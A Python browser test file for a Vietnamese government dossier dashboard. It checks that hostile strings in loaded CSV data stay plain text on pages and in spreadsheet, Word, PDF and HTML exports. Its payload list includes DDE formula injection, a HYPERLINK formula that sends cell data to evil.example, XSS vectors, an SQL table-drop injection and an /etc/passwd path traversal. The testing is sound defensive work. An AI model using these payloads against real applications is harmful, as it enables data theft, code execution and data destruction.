"""Data is text: what a file says as a name, a note or a cause stays text on pages and exports."""

from __future__ import annotations

import csv
import io
import json
import shutil
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import docx
import openpyxl
import pytest

from dashboard.filters import Period
from dashboard.pages import PAGES
from dashboard.snapshots.making import make_snapshot
from etl.loading import load_file
from etl.settings import Settings
from etl.warehouse import open_engine
from tests.browser.opening import open_page
from tests.conftest import REFERENCE
from tests.services.server import served
from tests.snapshots.reading import pdf_text, squeezed

pytestmark = pytest.mark.browser

SETTINGS = Settings.model_construct()
NASTY = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"xem")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "<script>alert(1)</script>",
    "<img src=http://evil.example/x.png onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">bấm</a>',
    "[bấm](javascript:alert(1))",
    "![x](http://evil.example/x.png)",
    "javascript:alert(1)",
    "</script><script>alert(1)</script>",
    "%{customdata}<extra>alert</extra>",
    "{{7*7}} ${7*7} #{7*7}",
    "' or 1=1; drop table fact_dossier; --",
    "../../../../etc/passwd",
    "&lt;b&gt;đậm&lt;/b&gt;",
    "<b>đậm</b><br>",
    "#set page(fill: red)",
    "$ integral $ *đậm* _nghiêng_ @ref <label>",
    "מזרח‮ngược",
    "Z̸͇͓a̵l̶g̷o̸",
    "🏛️👩‍💻",
)
"""Formulas, markup, links, templates, SQL, paths, typesetting, writing from right to left."""


def write_files(folder: Path, texts: list[str]) -> list[Path]:
    """Write dossiers and task reports that say ``texts``; the first of them name departments."""
    members = len(NASTY)
    dossiers = [
        {
            "Mã hồ sơ": f"H{number}",
            "Tên thủ tục": text,
            "Bộ phận": texts[number % members],
            "Lĩnh vực": texts[(number + 1) % members],
            "Ngày tiếp nhận": "03/06/2024",
            "Ngày hẹn trả": "10/06/2024",
            "Ngày kết thúc xử lý": "20/06/2024" if number % 2 else "",
            "Nguyên nhân quá hạn": text,
        }
        for number, text in enumerate(texts)
    ]
    tasks = [
        {
            "Mã nhiệm vụ": code,
            "Tháng": "06/2024",
            "Kết quả": "Đạt",
            "Minh chứng": texts[number % len(texts)],
            "Ghi chú": texts[(number + 7) % len(texts)],
        }
        for number, code in enumerate(("I.1", "I.2", "II.1", "III.1", "IV.1", "V.1", "VI.1"))
    ]
    paths = []
    for name, rows in (("ho_so", dossiers), ("nhiem_vu", tasks)):
        path = folder / f"{name}.csv"
        with path.open("w", encoding="utf-8-sig", newline="") as file:
            writer = csv.DictWriter(file, fieldnames=list(rows[0]), delimiter=";")
            writer.writeheader()
            writer.writerows(rows)
        paths.append(path)
    return paths


@pytest.fixture
def page(warm_page: Any) -> Any:
    return warm_page


@contextmanager
def office(folder: Path, template: Path, texts: list[str]) -> Iterator[str]:
    """Serve a database that was loaded with ``texts``."""
    files = folder / "files"
    files.mkdir()
    shutil.copy(template, folder / "warehouse.db")
    engine = open_engine(f"sqlite:///{folder / 'warehouse.db'}")
    for path in write_files(files, texts):
        load_file(engine, path, settings=SETTINGS)
    engine.dispose()
    with served(folder, DEMO="0") as address:
        yield address


@pytest.fixture(scope="module")
def texts() -> list[str]:
    """The strings above, and the collections of such where they are on this machine."""
    found = list(NASTY)
    if REFERENCE.is_dir():
        messy = REFERENCE / "messy"
        found += json.loads((messy / "naughty/blns.json").read_text(encoding="utf-8"))
        found += (messy / "csv_injection/payloads.txt").read_text(encoding="utf-8").splitlines()
    return [text for text in found if text.strip()]


@pytest.fixture(scope="module")
def served_nasty(
    tmp_path_factory: pytest.TempPathFactory, sqlite_template: Path, texts: list[str]
) -> Iterator[str]:
    with office(tmp_path_factory.mktemp("nasty"), sqlite_template, texts) as address:
        yield address


@contextmanager
def no_dialog(page: Any) -> Iterator[None]:
    """Fail when a dialog was opened meanwhile."""
    dialogs: list[str] = []

    def close(dialog: Any) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", close)
    yield
    page.remove_listener("dialog", close)
    assert dialogs == []


def look_at(page: Any, address: str) -> None:
    """Open every page; a foreign element or a live link of the data fails."""
    for shown in PAGES:
        open_page(page, f"{address}{shown.path}?period=2024-06")
        assert page.locator(".missing.error").count() == 0, shown.path
        foreign = page.evaluate(
            """() => [...document.querySelectorAll('a[href], img[src], iframe, object, embed')]
              .map(one => one.href || one.src || one.tagName)
              .concat([...document.querySelectorAll('svg a')].map(
                one => one.getAttribute('href') || one.getAttribute('xlink:href')))
              .filter(to => to && !to.startsWith(location.origin) && !to.startsWith('data:image')
                && !to.startsWith('blob:'))"""
        )
        assert foreign == [], shown.path
        scripts = page.evaluate(
            "() => [...document.querySelectorAll('#page script, #page img, #page svg[onload]')]"
            ".length"
        )
        assert scripts == 0, shown.path


def test_what_a_file_says_stays_text_on_every_page(quiet_page: Any, served_nasty: str) -> None:
    with no_dialog(quiet_page):
        look_at(quiet_page, served_nasty)
    quiet_page.goto(f"{served_nasty}/ho-so?period=2024-06")
    quiet_page.wait_for_selector("#dossier-grid .ag-center-cols-container [role=row]")
    quiet_page.fill("#dossier-search", "<script>alert(1)</script>")
    quiet_page.locator("#dossier-grid").get_by_text("<script>alert(1)</script>").first.wait_for()


def test_what_is_exported_from_the_list_is_no_formula(
    quiet_page: Any, served_nasty: str, tmp_path: Path
) -> None:
    quiet_page.goto(f"{served_nasty}/ho-so?period=2024-06")
    quiet_page.wait_for_selector("#dossier-grid .ag-center-cols-container [role=row]")
    with quiet_page.expect_download() as download:
        quiet_page.locator("#dossier-export").click()
    path = tmp_path / "list.xlsx"
    download.value.save_as(path)
    (sheet,) = openpyxl.load_workbook(path).worksheets
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert any("1+1" in str(cell.value) for cell in cells)
    assert not [cell.value for cell in cells if cell.data_type == "f" or cell.hyperlink]
    # Text that a program would count once it is saved again stays marked as text.
    risky = [cell for cell in cells if str(cell.value).startswith(("=", "+", "@", "-"))]
    assert risky and all(cell.quotePrefix for cell in risky)


def test_documents_hold_text_alone(
    quiet_page: Any, sqlite_url: str, tmp_path: Path, texts: list[str]
) -> None:
    page = quiet_page
    engine = open_engine(sqlite_url)
    for path in write_files(tmp_path, texts):
        load_file(engine, path, settings=SETTINGS)
    made = make_snapshot(
        engine,
        settings=SETTINGS.model_copy(update={"signing_key": tmp_path / "signing.pem"}),
        period=Period("2024-06"),
        edition="internal",
    )
    engine.dispose()
    with zipfile.ZipFile(io.BytesIO(made.archive)) as parts:
        # Of each kind the report, which is longer than the public notice.
        named = sorted(parts.namelist(), key=lambda name: parts.getinfo(name).file_size)
        files = {Path(name).suffix: parts.read(name) for name in named}
    for sheet in openpyxl.load_workbook(io.BytesIO(files[".xlsx"])):
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                # The cover's list of sheets links inside the book, and nothing else links.
                assert cell.hyperlink is None or cell.hyperlink.target is None
    with zipfile.ZipFile(io.BytesIO(files[".xlsx"])) as book:
        assert not [name for name in book.namelist() if b"<f>" in book.read(name)]
    written = docx.Document(io.BytesIO(files[".docx"]))
    outside = [part for part in written.part.rels.values() if part.is_external]
    assert outside == []
    assert b"/URI" not in files[".pdf"]
    path = tmp_path / "report.html"
    path.write_bytes(files[".html"])
    with no_dialog(page):
        page.goto(path.as_uri())
        page.wait_for_selector("html[data-drawn]", state="attached")
    assert "<script>alert(1)</script>" in page.locator("body").inner_text()
    assert "#set page(fill: red)" in squeezed(pdf_text(files[".pdf"]))
